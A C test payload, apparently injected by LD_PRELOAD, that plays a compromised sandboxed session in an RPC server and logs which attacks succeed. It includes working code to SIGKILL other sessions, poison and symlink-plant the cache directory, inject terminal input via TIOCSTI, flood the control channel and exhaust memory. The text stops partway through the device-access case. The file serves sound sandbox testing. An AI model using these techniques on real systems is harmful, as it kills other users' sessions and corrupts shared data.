/* The compromised-session payload (tests/compromise/compromise_e2e.py builds it with gcc and
 * gives it to the server as LD_PRELOAD; session processes inherit it).
 *
 * It models an attacker who already runs code inside one session process once its sandbox is
 * up, and reports what that code can reach. It does nothing unless
 *   - the process is a session process (its argv has `--session-child`), and
 *   - the session's client is the attacker: the peer of fd 0 (the client's socket, as the session
 *     process starts) has the address in RPC_ATTACK_PEER (the harness connects the attacker from
 *     127.0.0.2; bystanders come from 127.0.0.1), and
 *   - RPC_ATTACK names a case.
 * Then, at the first interposed libc call (write, writev, send*, recv*, read, poll, epoll_wait,
 * nanosleep...) made once the sandbox is up (prctl(PR_GET_SECCOMP) answers 2 or is refused: the
 * system-call filter is installed on the calling thread), it runs the case once and goes on into the real
 * function (dlsym(RTLD_NEXT)). The `thread` case instead starts a thread in the constructor
 * (before any sandbox), which waits for the filter and then acts.
 *
 * Every outcome is one line on stderr:
 *   ATTACK <case> <step>: BLOCKED (<errno name>[; detail])
 *   ATTACK <case> <step>: SUCCEEDED[ (detail)]
 * plus `ATTACK-TRY <case> <step>` before a step that might get the process killed, `ATTACK-INFO
 * <case> ...` notes, and `ATTACK-BEGIN <case>` / `ATTACK-END <case>` around the case.
 *
 * Environment (set by the harness on the server, inherited by sessions):
 *   RPC_ATTACK            case: signal cache symlink terminal chmod flood thread memory devices net
 *                         links staging
 *   RPC_ATTACK_PEER       attacker's client address (default 127.0.0.2)
 *   RPC_ATTACK_CACHE_DIR  the server's --cache-dir
 *   RPC_ATTACK_CANARY     a file outside the cache directory the harness watches
 *   RPC_ATTACK_VICTIM_FILE  a file holding the pid of an idle bystander session (else /proc is scanned)
 *   RPC_ATTACK_PORT       the front's listening port
 *   RPC_ATTACK_FRONT_PID  the front's pid (default: getppid())
 *   RPC_ATTACK_MEM_LIMIT  bytes: the session's memory bound (memory case tries 256 MiB more)
 *   RPC_ATTACK_SHM_KEY    a SysV key: the memory case leaves a 64 MiB segment under it
 *   RPC_ATTACK_FLOOD_BYTES  size of the unterminated line (default 512 MiB)
 *   RPC_ATTACK_FLOOD_STEP line|rate|junk: only that step of the flood case (default: all)
 *   RPC_ATTACK_RSS_BOUND  bytes the front's peak RSS may grow by (default 64 MiB)
 *   RPC_ATTACK_LINE_RATE  control lines per second the front may accept (default 10000)
 *   RPC_ATTACK_STEP       links: main|metrics: only those steps (default: all)
 *   RPC_ATTACK_BANNER_PORT  links: a loopback service that greets first (an SSH banner), on a
 *                         port inside the link policy (the attacker's port + 1000 + k)
 *   RPC_ATTACK_FAKE_RANK0_PORT  links: a fake ggml rank 0 inside the policy (reads 24 bytes,
 *                         answers 24 zero bytes, keeps the connection)
 *   RPC_ATTACK_CHOSEN_PORT  links: a rank-0 port of the session's choosing (not its port + 1000)
 *   RPC_ATTACK_METRICS_PORT links: the server's own --metrics port (outside the policy)
 *   RPC_ATTACK_LINKS      links: how many links to ask for device 0 (default 40)
 *   RPC_ATTACK_BUDGET     staging: the server's --max-alloc-per-connection, bytes
 *   RPC_ATTACK_STAGING_ROUNDS  staging: W/fill/D rounds whose files are kept (default 20)
 *
 * The links and staging cases speak the session's control line themselves: they write their
 * own request lines to fd 1 (`C <160 hex>`, `W <bytes>`, `D`; rpc-server/src/control.rs). The
 * session's reader thread reads the front's answers, and a descriptor the front passes
 * (SCM_RIGHTS) lands in this process's table whoever asked: the payload finds it by comparing
 * its descriptors before and after (a socket connected to the port asked for; a memfd the front
 * sealed). Both run on a thread of their own (started once the filter is up, so under it), so
 * that the thread they were triggered from, the reader thread perhaps, goes on.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MIB (1024ULL * 1024ULL)

static int attacker;           /* this process is the attacker's session */
static const char *attack_case = "";
static atomic_int fired;       /* the case ran (or is running) */
static __thread int in_payload; /* no re-entry from our own libc calls */

/* ---------- output ---------- */

static void say(const char *fmt, ...) {
    char buf[2048];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
    va_end(ap);
    if (n < 0) return;
    if (n > (int)sizeof buf - 2) n = sizeof buf - 2;
    buf[n++] = '\n';
    syscall(SYS_write, 2, buf, (size_t)n); /* never through our own hooks */
}

static const char *ename(int e) {
    const char *s = strerrorname_np(e);
    return s ? s : "E?";
}

/* r >= 0: SUCCEEDED; r < 0: BLOCKED with errno. */
static void step(const char *st, long r, int err, const char *detail) {
    if (r >= 0) {
        if (detail && *detail) say("ATTACK %s %s: SUCCEEDED (%s)", attack_case, st, detail);
        else say("ATTACK %s %s: SUCCEEDED", attack_case, st);
    } else {
        if (detail && *detail) say("ATTACK %s %s: BLOCKED (%s; %s)", attack_case, st, ename(err), detail);
        else say("ATTACK %s %s: BLOCKED (%s)", attack_case, st, ename(err));
    }
}

#define STEP(name, expr)                   \
    do {                                   \
        errno = 0;                         \
        long r_ = (long)(expr);            \
        step((name), r_ < 0 ? -1 : 0, errno, NULL); \
    } while (0)

static const char *env(const char *k, const char *dflt) {
    const char *v = getenv(k);
    return v && *v ? v : dflt;
}

static unsigned long long env_u64(const char *k, unsigned long long dflt) {
    const char *v = getenv(k);
    return v && *v ? strtoull(v, NULL, 0) : dflt;
}

/* ---------- who we are ---------- */

static int is_session_child(void) {
    char buf[65536];
    int fd = (int)syscall(SYS_openat, AT_FDCWD, "/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    long n = syscall(SYS_read, fd, buf, sizeof buf - 1);
    syscall(SYS_close, fd);
    if (n <= 0) return 0;
    for (long i = 0; i < n;) {
        if (strcmp(buf + i, "--session-child") == 0) return 1;
        i += (long)strlen(buf + i) + 1;
    }
    return 0;
}

static int peer_is_attacker(void) {
    struct sockaddr_storage ss;
    socklen_t len = sizeof ss;
    if (getpeername(0, (struct sockaddr *)&ss, &len) != 0) {
        /* fd 0 is not the client's socket: the front's `--session-peer <addr>:<port>` says who */
        char buf[65536], want[80];
        int fd = (int)syscall(SYS_openat, AT_FDCWD, "/proc/self/cmdline", O_RDONLY | O_CLOEXEC);
        if (fd < 0) return 0;
        long n = syscall(SYS_read, fd, buf, sizeof buf - 1);
        syscall(SYS_close, fd);
        snprintf(want, sizeof want, "%s:", env("RPC_ATTACK_PEER", "127.0.0.2"));
        for (long i = 0, prev = -1; i < n; prev = i, i += (long)strlen(buf + i) + 1)
            if (prev >= 0 && strcmp(buf + prev, "--session-peer") == 0)
                return strncmp(buf + i, want, strlen(want)) == 0;
        return 0;
    }
    char host[INET6_ADDRSTRLEN] = "";
    if (ss.ss_family == AF_INET)
        inet_ntop(AF_INET, &((struct sockaddr_in *)&ss)->sin_addr, host, sizeof host);
    else if (ss.ss_family == AF_INET6)
        inet_ntop(AF_INET6, &((struct sockaddr_in6 *)&ss)->sin6_addr, host, sizeof host);
    return strcmp(host, env("RPC_ATTACK_PEER", "127.0.0.2")) == 0;
}

/* The system-call filter is on the calling thread: PR_GET_SECCOMP says 2, or is itself refused
 * (it never fails without a filter; an allow-list may not include it). */
static int sandbox_up(void) {
    int r = prctl(PR_GET_SECCOMP, 0, 0, 0, 0);
    return r == 2 || r < 0;
}

/* ---------- small helpers ---------- */

static long read_file(const char *path, char *buf, size_t cap) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    size_t got = 0;
    while (got < cap - 1) {
        ssize_t n = read(fd, buf + got, cap - 1 - got);
        if (n < 0) { int e = errno; close(fd); errno = e; return -1; }
        if (n == 0) break;
        got += (size_t)n;
    }
    close(fd);
    buf[got] = 0;
    return (long)got;
}

static long status_kib(pid_t pid, const char *field) {
    char path[64], buf[8192];
    snprintf(path, sizeof path, "/proc/%d/status", (int)pid);
    if (read_file(path, buf, sizeof buf) < 0) return -1;
    char *p = strstr(buf, field);
    if (!p) return -1;
    return strtol(p + strlen(field) + 1, NULL, 10);
}

static int cmdline_has(pid_t pid, const char *word) {
    char path[64], buf[65536];
    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)pid);
    long n = read_file(path, buf, sizeof buf);
    for (long i = 0; i < n;) {
        if (strcmp(buf + i, word) == 0) return 1;
        i += (long)strlen(buf + i) + 1;
    }
    return 0;
}

/* Another session process: from the harness's file, else found through /proc. */
static pid_t victim_pid(const char **how) {
    char buf[64];
    const char *f = getenv("RPC_ATTACK_VICTIM_FILE");
    if (f && read_file(f, buf, sizeof buf) > 0 && atoi(buf) > 0) {
        *how = "pid file";
        return atoi(buf);
    }
    DIR *d = opendir("/proc");
    pid_t found = 0;
    if (d) {
        struct dirent *e;
        while ((e = readdir(d))) {
            pid_t p = atoi(e->d_name);
            if (p > 0 && p != getpid() && cmdline_has(p, "--session-child")) { found = p; break; }
        }
        closedir(d);
    }
    *how = found ? "/proc scan" : "none";
    return found;
}

static int is_hex16(const char *n) {
    if (strlen(n) != 16) return 0;
    for (int i = 0; i < 16; i++)
        if (!((n[i] >= '0' && n[i] <= '9') || (n[i] >= 'a' && n[i] <= 'f'))) return 0;
    return 1;
}

/* Entry names (16 hex digits) in the cache directory; returns how many (at most max). */
static int cache_entries(const char *dir, char names[][17], int max) {
    DIR *d = opendir(dir);
    int n = 0;
    if (!d) return -1;
    struct dirent *e;
    while ((e = readdir(d)) && n < max)
        if (is_hex16(e->d_name)) { memcpy(names[n], e->d_name, 17); n++; }
    closedir(d);
    return n;
}

/* ---------- cases ---------- */

static pid_t front_pid(void) {
    unsigned long long p = env_u64("RPC_ATTACK_FRONT_PID", 0);
    return p ? (pid_t)p : getppid();
}

static void case_signal(void) {
    pid_t front = front_pid();
    const char *how;
    pid_t victim = victim_pid(&how);
    say("ATTACK-INFO signal front pid %d, bystander session pid %d (%s)", (int)front, (int)victim, how);
    struct { const char *who; pid_t pid; } t[2] = {{"front", front}, {"session", victim}};
    char name[128];
    int reach[2] = {0, 0}; /* a method that reached the bystander: 1 kill, 2 tgkill, 3 pidfd */
    int pidfds[2] = {-1, -1};
    for (int i = 0; i < 2; i++) {
        if (t[i].pid <= 0) { say("ATTACK-INFO signal no %s pid", t[i].who); continue; }
        snprintf(name, sizeof name, "kill %s (signal 0)", t[i].who);
        errno = 0; long r = kill(t[i].pid, 0); step(name, r, errno, NULL);
        if (r == 0 && !reach[i]) reach[i] = 1;
        snprintf(name, sizeof name, "tgkill %s (signal 0)", t[i].who);
        errno = 0; r = syscall(SYS_tgkill, t[i].pid, t[i].pid, 0); step(name, r, errno, NULL);
        if (r == 0 && !reach[i]) reach[i] = 2;
        snprintf(name, sizeof name, "rt_sigqueueinfo %s (signal 0)", t[i].who);
        siginfo_t si; memset(&si, 0, sizeof si); si.si_code = SI_QUEUE; si.si_pid = getpid(); si.si_uid = getuid();
        errno = 0; r = syscall(SYS_rt_sigqueueinfo, t[i].pid, 0, &si); step(name, r, errno, NULL);
        snprintf(name, sizeof name, "pidfd_open %s", t[i].who);
        errno = 0; r = syscall(SYS_pidfd_open, t[i].pid, 0); step(name, r, errno, NULL);
        pidfds[i] = (int)r;
        if (r >= 0) {
            snprintf(name, sizeof name, "pidfd_send_signal %s (signal 0)", t[i].who);
            errno = 0; long r2 = syscall(SYS_pidfd_send_signal, pidfds[i], 0, NULL, 0); step(name, r2, errno, NULL);
            if (r2 == 0 && !reach[i]) reach[i] = 3;
        }
        struct rlimit old;
        snprintf(name, sizeof name, "prlimit64 read %s's RLIMIT_NOFILE", t[i].who);
        errno = 0; r = prlimit(t[i].pid, RLIMIT_NOFILE, NULL, &old); step(name, r, errno, NULL);
        snprintf(name, sizeof name, "prlimit64 set %s's RLIMIT_CORE (to its own value)", t[i].who);
        struct rlimit core;
        errno = 0; r = prlimit(t[i].pid, RLIMIT_CORE, NULL, &core);
        if (r == 0) { errno = 0; r = prlimit(t[i].pid, RLIMIT_CORE, &core, NULL); }
        step(name, r, errno, NULL);
    }
    /* The harm: end the bystander session with whatever reached it. */
    if (victim > 0) {
        long r = -1;
        int e = EPERM;
        const char *m = "no method reached it";
        errno = 0;
        if (reach[1] == 1) { r = kill(victim, SIGKILL); e = errno; m = "kill"; }
        else if (reach[1] == 2) { r = syscall(SYS_tgkill, victim, victim, SIGKILL); e = errno; m = "tgkill"; }
        else if (reach[1] == 3) { r = syscall(SYS_pidfd_send_signal, pidfds[1], SIGKILL, NULL, 0); e = errno; m = "pidfd_send_signal"; }
        step("SIGKILL the bystander session", r, e, m);
    }
    for (int i = 0; i < 2; i++) if (pidfds[i] >= 0) close(pidfds[i]);
}

static void case_cache(void) {
    const char *dir = getenv("RPC_ATTACK_CACHE_DIR");
    if (!dir) { say("ATTACK-INFO cache no RPC_ATTACK_CACHE_DIR"); return; }
    char names[64][17];
    int n = cache_entries(dir, names, 64);
    if (n < 0) { step("list the cache directory", -1, errno, NULL); return; }
    say("ATTACK-INFO cache %d entries in %s", n, dir);
    char path[4096], tmp[4096], line[256], vpath[4096];
    snprintf(vpath, sizeof vpath, "%s/verified-entries", dir);
    for (int i = 0; i < n; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
        struct stat st;
        if (stat(path, &st) != 0) continue;
        snprintf(tmp, sizeof tmp, "%s/.attack.%d", dir, (int)getpid());
        char sname[128];
        snprintf(sname, sizeof sname, "replace entry %s (%lld bytes of zeros)", names[i], (long long)st.st_size);
        int fd = open(tmp, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
        if (fd < 0) { step(sname, -1, errno, "create"); continue; }
        long r = ftruncate(fd, st.st_size); /* a sparse file of zeros, the entry's size */
        int e = errno;
        close(fd);
        if (r == 0) { r = rename(tmp, path); e = errno; }
        if (r != 0) unlink(tmp);
        step(sname, r, e, NULL);
        if (r != 0) continue;
        struct stat nst;
        stat(path, &nst);
        unsigned long long mt = (unsigned long long)nst.st_mtim.tv_sec * 1000000000ULL + (unsigned long long)nst.st_mtim.tv_nsec;
        snprintf(line, sizeof line, "%s\t%lld\t%llu\t%llu\n", names[i], (long long)nst.st_size, mt,
                 (unsigned long long)nst.st_ino);
        snprintf(sname, sizeof sname, "append a verified-entries line for %s", names[i]);
        fd = open(vpath, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
        if (fd < 0) { step(sname, -1, errno, NULL); continue; }
        struct stat vst;
        fstat(fd, &vst);
        if (vst.st_size == 0) { const char *m = "rpc-server verified-entries 1\n"; (void)!write(fd, m, strlen(m)); }
        errno = 0;
        r = write(fd, line, strlen(line));
        e = errno;
        close(fd);
        step(sname, r, e, NULL);
    }
    /* A new entry named like another model's tensor, pre-verified. */
    snprintf(path, sizeof path, "%s/%016llx", dir, 0x0123456789abcdefULL);
    int fd = open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
    if (fd < 0) step("plant a new entry 0123456789abcdef", -1, errno, NULL);
    else {
        long r = write(fd, "poison", 6);
        close(fd);
        step("plant a new entry 0123456789abcdef", r, errno, NULL);
    }
}

static void case_symlink(void) {
    const char *dir = getenv("RPC_ATTACK_CACHE_DIR");
    const char *canary = getenv("RPC_ATTACK_CANARY");
    if (!dir || !canary) { say("ATTACK-INFO symlink no cache dir or canary"); return; }
    const int span = (int)env_u64("RPC_ATTACK_PID_SPAN", 3000);
    char names[64][17];
    int n = cache_entries(dir, names, 64);
    say("ATTACK-INFO symlink %d entries; temp-name links for pids %d..%d", n < 0 ? 0 : n, (int)getpid() + 1, (int)getpid() + span);
    char path[4096], sname[160], detail[64];
    pid_t me = getpid();
    /* Entry names: the next session that stores the entry writes `.<name>.tmp.<pid>` first. */
    for (int i = 0; i < n; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
        snprintf(sname, sizeof sname, "delete entry %s", names[i]);
        STEP(sname, unlink(path));
        int made = 0, e = 0;
        for (int p = me + 1; p <= me + span; p++) {
            snprintf(path, sizeof path, "%s/.%s.tmp.%d", dir, names[i], p);
            if (symlink(canary, path) == 0) made++; else e = errno;
        }
        snprintf(sname, sizeof sname, "plant temp-name links .%s.tmp.<pid> to the canary", names[i]);
        snprintf(detail, sizeof detail, "%d of %d", made, span);
        step(sname, made ? 0 : -1, e, detail);
    }
    /* A fake entry name pointing at the canary (a session would read it). */
    snprintf(path, sizeof path, "%s/%016llx", dir, 0xfedcba9876543210ULL);
    STEP("plant an entry-name link fedcba9876543210 to the canary", symlink(canary, path));
    const char *fixed[] = {"verified-entries", "gguf-index"};
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, fixed[i]);
        unlink(path);
        snprintf(sname, sizeof sname, "plant %s as a link to the canary", fixed[i]);
        STEP(sname, symlink(canary, path));
    }
    const char *tmpfmt[] = {"%s/.verified-entries.tmp.%d", "%s/gguf-index.tmp.%d"};
    const char *tmpname[] = {".verified-entries.tmp.<pid>", "gguf-index.tmp.<pid>"};
    for (int i = 0; i < 2; i++) {
        int made = 0, e = 0;
        /* the front writes gguf-index (at its next start): its pid comes later than ours too */
        for (int p = me + 1; p <= me + span; p++) {
            snprintf(path, sizeof path, tmpfmt[i], dir, p);
            if (symlink(canary, path) == 0) made++; else e = errno;
        }
        snprintf(sname, sizeof sname, "plant temp-name links %s to the canary", tmpname[i]);
        snprintf(detail, sizeof detail, "%d of %d", made, span);
        step(sname, made ? 0 : -1, e, detail);
    }
}

static void case_terminal(void) {
    char c = '#';
    STEP("ioctl TIOCSTI on stderr", ioctl(2, TIOCSTI, &c));
    char name[96];
    int ttys = 0;
    for (int fd = 0; fd < 1024; fd++) {
        if (fd == 2 || !isatty(fd)) continue;
        ttys++;
        snprintf(name, sizeof name, "ioctl TIOCSTI on fd %d (a tty)", fd);
        STEP(name, ioctl(fd, TIOCSTI, &c));
    }
    say("ATTACK-INFO terminal stderr is %sa tty; %d other tty fds", isatty(2) ? "" : "not ", ttys);
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
    step("open /dev/tty", fd, errno, NULL);
    if (fd >= 0) { STEP("ioctl TIOCSTI on /dev/tty", ioctl(fd, TIOCSTI, &c)); close(fd); }
    char path[256];
    if (isatty(2) && ttyname_r(2, path, sizeof path) == 0) {
        fd = open(path, O_RDWR | O_CLOEXEC | O_NOCTTY);
        snprintf(name, sizeof name, "open stderr's terminal %s by path", path);
        step(name, fd, errno, NULL);
        if (fd >= 0) close(fd);
    }
}

static void case_chmod(void) {
    const char *canary = getenv("RPC_ATTACK_CANARY");
    const char *dir = getenv("RPC_ATTACK_CACHE_DIR");
    if (!canary) { say("ATTACK-INFO chmod no canary"); return; }
    STEP("chmod the canary 0666", chmod(canary, 0666));
    STEP("chown the canary 65534:65534", chown(canary, 65534, 65534));
    STEP("setxattr user.attack on the canary", setxattr(canary, "user.attack", "1", 1, 0));
    struct timespec ts[2] = {{0, 0}, {0, 0}};
    STEP("utimensat the canary to 1970", utimensat(AT_FDCWD, canary, ts, 0));
    STEP("open the canary for writing", open(canary, O_WRONLY | O_CLOEXEC));
    STEP("truncate the canary", truncate(canary, 1));
    if (dir) {
        char link_path[4096];
        snprintf(link_path, sizeof link_path, "%s/attack-hardlink", dir);
        errno = 0;
        long r = link(canary, link_path);
        step("hard-link the canary into the cache directory", r, errno, NULL);
        if (r == 0) {
            int fd = open(link_path, O_WRONLY | O_APPEND | O_CLOEXEC);
            long w = fd < 0 ? -1 : write(fd, "pwned\n", 6);
            step("write the canary through the hard link", w, errno, NULL);
            if (fd >= 0) close(fd);
        }
    }
}

static double now_s(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static long write_all(int fd, const char *b, size_t n) {
    size_t done = 0;
    while (done < n) {
        long r = syscall(SYS_write, fd, b + done, n - done);
        if (r < 0) { if (errno == EINTR) continue; return -1; }
        done += (size_t)r;
    }
    return (long)done;
}

/* RPC_ATTACK_FLOOD_STEP=line|rate|junk runs that step only (the harness gives each its own
 * server: a front that ends the session at the first would hide the others). */
static int flood_wants(const char *st) {
    const char *only = getenv("RPC_ATTACK_FLOOD_STEP");
    return !only || !*only || !strcmp(only, st);
}

static void case_flood(void) {
    pid_t front = front_pid();
    unsigned long long total = env_u64("RPC_ATTACK_FLOOD_BYTES", 512 * MIB);
    unsigned long long bound = env_u64("RPC_ATTACK_RSS_BOUND", 64 * MIB);
    double rate_bound = (double)env_u64("RPC_ATTACK_LINE_RATE", 10000);
    long hwm0 = status_kib(front, "VmHWM:"), rss0 = status_kib(front, "VmRSS:");
    say("ATTACK-INFO flood front pid %d VmRSS %ld KiB VmHWM %ld KiB before", (int)front, rss0, hwm0);
    char detail[200];
    long r = 0;
    int e = 0;
    double t0, dt, rate;
    unsigned long long count;
    if (flood_wants("line")) {
        /* One line that never ends: "S 0 000...". A front that keeps it whole grows by its size. */
        const char *st = "unterminated 512 MiB line on the control channel";
        say("ATTACK-TRY flood %s", st);
        size_t chunk = 1 << 20;
        char *buf = malloc(chunk);
        memset(buf, '0', chunk);
        unsigned long long sent = 0;
        r = write_all(1, "S 0 ", 4);
        if (r < 0) e = errno;
        t0 = now_s();
        while (r >= 0 && sent < total) {
            size_t n = total - sent < chunk ? (size_t)(total - sent) : chunk;
            r = write_all(1, buf, n);
            if (r < 0) { e = errno; break; }
            sent += n;
        }
        dt = now_s() - t0;
        long hwm1 = status_kib(front, "VmHWM:");
        long grown = hwm0 >= 0 && hwm1 >= 0 ? (hwm1 - hwm0) / 1024 : -1;
        if (grown >= 0)
            snprintf(detail, sizeof detail, "%llu MiB accepted in %.1f s; front VmHWM +%ld MiB, bound %llu MiB",
                     sent / MIB, dt, grown, bound / MIB);
        else
            snprintf(detail, sizeof detail, "%llu MiB accepted in %.1f s; the front's memory not visible",
                     sent / MIB, dt);
        if (r < 0) step(st, -1, e, detail);
        else if (grown < 0) step(st, 0, 0, detail); /* cannot see the front: it took the whole line */
        else step(st, grown * MIB > bound ? 0 : -1, EDQUOT, detail);
        /* End it (zeros parse as a counter delta of 0: the front logs nothing for it). */
        write_all(1, "\n", 1);
        free(buf);
    }
    if (flood_wants("rate")) {
        /* Many short valid lines ("I freed 0 bytes": no log line each), for 3 s. */
        const char *st = "valid control lines as fast as possible";
        say("ATTACK-TRY flood %s", st);
        static const char lines[] = "F 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\nF 0\n";
        count = 0;
        t0 = now_s();
        e = 0;
        r = 0;
        while (now_s() - t0 < 3.0) {
            r = write_all(1, lines, sizeof lines - 1);
            if (r < 0) { e = errno; break; }
            count += 16;
        }
        dt = now_s() - t0;
        rate = (double)count / (dt > 0 ? dt : 1);
        snprintf(detail, sizeof detail, "%llu lines in %.1f s = %.0f/s, bound %.0f/s", count, dt, rate, rate_bound);
        if (r < 0) step(st, -1, e, detail);
        else step(st, rate > rate_bound ? 0 : -1, EDQUOT, detail);
    }
    if (flood_wants("junk")) {
        /* Junk lines: each one the front cannot parse (a front that logs each fills its log). */
        const char *st = "junk control lines as fast as possible";
        say("ATTACK-TRY flood %s", st);
        static const char junk[] = "X junk from a compromised session\n";
        count = 0;
        t0 = now_s();
        e = 0;
        r = 0;
        while (now_s() - t0 < 1.0 && count < 200000) {
            r = write_all(1, junk, sizeof junk - 1);
            if (r < 0) { e = errno; break; }
            count++;
        }
        dt = now_s() - t0;
        rate = (double)count / (dt > 0 ? dt : 1);
        snprintf(detail, sizeof detail, "%llu junk lines in %.1f s = %.0f/s, bound %.0f/s", count, dt, rate, rate_bound);
        if (r < 0) step(st, -1, e, detail);
        else step(st, rate > rate_bound ? 0 : -1, EDQUOT, detail);
    }
    long hwm2 = status_kib(front, "VmHWM:"), rss2 = status_kib(front, "VmRSS:");
    say("ATTACK-INFO flood front VmRSS %ld KiB VmHWM %ld KiB after", rss2, hwm2);
}

/* ----- memory ----- */

static sigjmp_buf touch_jmp;
static volatile sig_atomic_t touching;
static void on_bus(int sig) {
    (void)sig;
    if (touching) siglongjmp(touch_jmp, 1);
}

/* Writes a byte per page of [p, p+len); returns the bytes touched before a SIGBUS/SIGSEGV. */
static unsigned long long touch(char *p, unsigned long long len_) {
    volatile unsigned long long len = len_;
    struct sigaction sa, old_bus, old_segv;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_bus;
    sigemptyset(&sa.sa_mask);
    sigaction(SIGBUS, &sa, &old_bus);
    sigaction(SIGSEGV, &sa, &old_segv);
    volatile unsigned long long done = 0;
    if (sigsetjmp(touch_jmp, 1) == 0) {
        touching = 1;
        for (unsigned long long off = 0; off < len; off += 4096) {
            p[off] = 1;
            done = off + 4096;
        }
    }
    touching = 0;
    sigaction(SIGBUS, &old_bus, NULL);
    sigaction(SIGSEGV, &old_segv, NULL);
    return done > len ? len : done;
}

static void mem_report(const char *st, unsigned long long got, unsigned long long limit, int e) {
    char detail[160];
    snprintf(detail, sizeof detail, "%llu MiB resident of %llu MiB tried, limit %llu MiB", got / MIB,
             (limit + 256 * MIB) / MIB, limit / MIB);
    step(st, got > limit ? 0 : -1, e ? e : ENOMEM, detail);
}

static void case_memory(void) {
    unsigned long long limit = env_u64("RPC_ATTACK_MEM_LIMIT", 256 * MIB);
    unsigned long long want = limit + 256 * MIB;
    say("ATTACK-INFO memory limit %llu MiB, trying %llu MiB per method", limit / MIB, want / MIB);
    /* memfd_create + write */
    say("ATTACK-TRY memory memfd_create + write");
    int fd = (int)syscall(SYS_memfd_create, "attack", 0);
    if (fd < 0) step("memfd_create + write", -1, errno, NULL);
    else {
        size_t chunk = 8 * MIB;
        char *b = malloc(chunk);
        memset(b, 1, chunk);
        unsigned long long got = 0;
        int e = 0;
        while (got < want) {
            long r = syscall(SYS_write, fd, b, chunk);
            if (r <= 0) { e = r < 0 ? errno : ENOSPC; break; }
            got += (unsigned long long)r;
        }
        free(b);
        mem_report("memfd_create + write", got, limit, e);
        close(fd);
    }
    /* mmap MAP_SHARED|MAP_ANONYMOUS, touched */
    say("ATTACK-TRY memory mmap MAP_SHARED|MAP_ANONYMOUS + touch");
    char *p = mmap(NULL, want, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) step("mmap MAP_SHARED|MAP_ANONYMOUS + touch", -1, errno, NULL);
    else {
        mem_report("mmap MAP_SHARED|MAP_ANONYMOUS + touch", touch(p, want), limit, 0);
        munmap(p, want);
    }
    /* shm_open (/dev/shm) */
    say("ATTACK-TRY memory shm_open + mmap + touch");
    char nm[64];
    snprintf(nm, sizeof nm, "/rpc-attack-%d", (int)getpid());
    fd = shm_open(nm, O_CREAT | O_RDWR | O_EXCL, 0600);
    if (fd < 0) step("shm_open + mmap + touch", -1, errno, NULL);
    else {
        if (ftruncate(fd, (off_t)want) != 0) step("shm_open + mmap + touch", -1, errno, "ftruncate");
        else {
            p = mmap(NULL, want, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
            if (p == MAP_FAILED) step("shm_open + mmap + touch", -1, errno, "mmap");
            else {
                mem_report("shm_open + mmap + touch", touch(p, want), limit, 0);
                munmap(p, want);
            }
        }
        close(fd);
        shm_unlink(nm);
    }
    /* SysV shmget */
    say("ATTACK-TRY memory shmget + shmat + touch");
    int id = shmget(IPC_PRIVATE, want, IPC_CREAT | 0600);
    if (id < 0) step("shmget + shmat + touch", -1, errno, NULL);
    else {
        p = shmat(id, NULL, 0);
        if (p == (void *)-1) step("shmget + shmat + touch", -1, errno, "shmat");
        else {
            mem_report("shmget + shmat + touch", touch(p, want), limit, 0);
            shmdt(p);
        }
        shmctl(id, IPC_RMID, NULL);
    }
    /* A SysV segment left behind: without an IPC namespace it outlives the session (the
     * harness looks for its key afterwards and removes it). */
    unsigned long long key = env_u64("RPC_ATTACK_SHM_KEY", 0);
    if (key) {
        id = shmget((key_t)key, 64 * MIB, IPC_CREAT | IPC_EXCL | 0600);
        if (id < 0) say("ATTACK-INFO memory cannot leave a SysV segment behind: %s", ename(errno));
        else {
            p = shmat(id, NULL, 0);
            if (p != (void *)-1) { touch(p, 64 * MIB); shmdt(p); }
            say("ATTACK-INFO memory left a 64 MiB SysV segment behind, key 0x%llx", key);
        }
    }
    /* Private anonymous memory (what RLIMIT_DATA bounds) */
    say("ATTACK-TRY memory mmap MAP_PRIVATE|MAP_ANONYMOUS + touch");
    p = mmap(NULL, want, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) step("mmap MAP_PRIVATE|MAP_ANONYMOUS + touch", -1, errno, NULL);
    else {
        mem_report("mmap MAP_PRIVATE|MAP_ANONYMOUS + touch", touch(p, want), limit, 0);
        munmap(p, want);
    }
}

static void case_devices(void) {
    static const char *devs[] = {"/dev/kvm", "/dev/fuse", "/dev/tty1", "/dev/tty0", "/dev/console",
                                 "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sda",
                                 "/dev/vda", "/dev/xvda", "/dev/nvme0n1", "/dev/nvme0", "/dev/loop0",
